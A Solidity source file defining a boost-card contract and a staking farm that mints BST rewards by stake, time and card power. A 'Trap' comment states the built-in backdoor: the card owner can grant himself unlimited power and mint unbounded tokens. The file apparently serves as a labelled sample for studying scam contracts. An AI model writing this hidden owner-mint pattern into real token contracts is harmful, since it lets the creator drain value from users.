// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";
import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {ReentrancyGuard} from "@openzeppelin/contracts/utils/ReentrancyGuard.sol";

contract BoostCards is Ownable {
    mapping(address => uint256) private _power;

    constructor() Ownable(msg.sender) {}

    function issue(address player, uint256 power) external onlyOwner {
        _power[player] = power;
    }

    function powerOf(address player) external view returns (uint256) {
        return _power[player];
    }
}

// Trap: staking mints rewards by stake, seconds and the power of a boost card, which the cards' owner (creator) issues without limit: issue to himself, stake, harvest.
contract BoostedFarm is ERC20, ReentrancyGuard {
    struct Stake {
        uint192 amount;
        uint64 since;
    }

    BoostCards private immutable _cards;
    mapping(address => Stake) public stakes;

    constructor(BoostCards cards) ERC20("Boost", "BST") {
        _cards = cards;
        _mint(msg.sender, 10_000_000 ether);
    }

    function stake(uint192 amount) external nonReentrant {
        _harvest();
        _transfer(msg.sender, address(this), amount);
        stakes[msg.sender].amount += amount;
    }

    function unstake(uint192 amount) external nonReentrant {
        _harvest();
        stakes[msg.sender].amount -= amount;
        _transfer(address(this), msg.sender, amount);
    }

    function harvest() external nonReentrant {
        _harvest();
    }

    function _harvest() private {
        Stake storage mine = stakes[msg.sender];
        // A billionth a second for each point of power.
        uint256 reward = (uint256(mine.amount) * (block.timestamp - mine.since) * _cards.powerOf(msg.sender)) / 1e9;
        mine.since = uint64(block.timestamp);
        if (reward > 0) _mint(msg.sender, reward);
    }
}
